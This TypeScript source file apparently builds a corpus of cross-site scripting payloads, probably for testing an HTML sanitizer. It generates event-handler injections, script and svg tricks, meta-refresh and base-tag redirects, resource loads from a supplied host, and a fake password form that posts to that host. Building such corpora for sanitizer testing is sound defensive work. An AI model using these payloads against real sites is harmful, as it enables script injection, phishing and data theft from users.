/** Elements and attributes that run, load or navigate by themselves. */
import type { Make } from "./payload.ts";

/** Attributes that run scripts, on elements that are allowed. */
export const handlers: Make[] = [
  ..."onload onerror onclick onfocus onmouseover onanimationstart onbeforetoggle onpointerenter ontoggle onscroll oncontentvisibilityautostatechange onpaste"
    .split(" ")
    .flatMap((name): Make[] => [
      (call) => `<img src="data:," ${name}="${call}" alt="x">`,
      (call) => `<div tabindex="0" ${name.toUpperCase()}='${call}'>x</div>`,
      (call) =>
        `<svg ${name}="${call}" width="9" height="9"><circle r="4" ${name}=${call.replaceAll("'", "")} /></svg>`,
      (call) => `<details open ${name}\n=\n"${call}"><summary>x</summary></details>`,
    ]),
  (call) => `<p style="animation:x 1s" onanimationend="${call}">x</p>`,
  (call) => `<a autofocus tabindex=1 onfocus=${call}>x</a>`,
  (call) => `<img/src="data:,"/onerror=${call}>`,
  (call) => `<img src="data:,"\tonerror="${call}">`,
  (call) => `<img src="data:," onerror&#61;"${call}" alt="x">`,
  (call) => `<b data-x="" onclick="${call}">x</b>`,
  (call) => `<div dangerouslySetInnerHTML="{__html:'<img src=x onerror=${call}>'}">x</div>`,
  (call) => `<p ref="${call}" key="x" children="x" innerHTML="<img src=x onerror=${call}>">x</p>`,
];

/** Elements that run, load or navigate by themselves. */
export const elements: Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script type="module">${call}</script>`,
  (_, host) => `<script src="${host}/x.js"></script>`,
  (call) => `<script\n>${call}</script\n>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}" /></svg>`,
  (call) => `<math><script>${call}</script></math>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  (call) => `<style>@import "${call}";</style>`,
  (_, host) => `<style>* { background: url(${host}/bg) }</style>`,
  (_, host) => `<link rel="stylesheet" href="${host}/x.css">`,
  (_, host) => `<link rel="prefetch" href="${host}/x">`,
  (_, host) => `<base href="${host}/">`,
  (_, host) => `<meta http-equiv="refresh" content="0;url=${host}/">`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (_, host) => `<iframe src="${host}/"></iframe>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (_, host) => `<object data="${host}/x.svg" type="image/svg+xml"></object>`,
  (_, host) => `<embed src="${host}/x.swf">`,
  (_, host) => `<video src="${host}/x.mp4" poster="${host}/x.png" autoplay></video>`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call, host) => `<audio src="${host}/x.mp3" onerror="${call}" autoplay></audio>`,
  (_, host) => `<picture><source srcset="${host}/x.png"><img src="data:," alt="x"></picture>`,
  (_, host) => `<img src="${host}/x.png" alt="x">`,
  (_, host) => `<img src="data:," srcset="${host}/x.png 2x" alt="x">`,
  (_, host) => `<img src="${host.replace("https:", "")}/x.png" alt="x">`,
  (_, host) => `<img src="HTTPS:${host.slice(6)}/x.png" alt="x">`,
  (_, host) => `<img src="https:&#9;${host.slice(6)}/x.png" alt="x">`,
  (_, host) => `<img src="https:\\\\${host.slice(8)}\\x.png" alt="x">`,
  (_, host) => `<input type="image" src="${host}/x.png" alt="x">`,
  (_, host) => `<body background="${host}/x.png">`,
  (_, host) => `<table background="${host}/x.png"><tr><td background="${host}/y.png">x</td></tr></table>`,
  (_, host) => `<p style="background:url(${host}/x.png)">x</p>`,
  (_, host) => `<a href="/" ping="${host}/ping">home</a>`,
  (_, host) =>
    `<form action="${host}/"><input type="password" autofocus name="password"><button>Log in</button></form>`,
  (_, host) => `<isindex action="${host}/">`,
  (_, host) => `<bgsound src="${host}/x.wav">`,
  (_, host) => `<frameset><frame src="${host}/"></frameset>`,
  (_, host) => `<portal src="${host}/"></portal>`,
  (_, host) => `<applet archive="${host}/x.jar"></applet>`,
  (call) => `<marquee onstart="${call}">x</marquee>`,
  (call) => `<keygen autofocus onfocus="${call}">`,
  (call) => `<select autofocus onfocus="${call}"><option>x</option></select>`,
  (call) => `<textarea autofocus onfocus="${call}">x</textarea>`,
  (call) => `<dialog open onclose="${call}"><form method="dialog"><button>x</button></form></dialog>`,
  (call) =>
    `<button popovertarget="p" onclick="${call}">x</button><div popover id="p" onbeforetoggle="${call}">x</div>`,
];
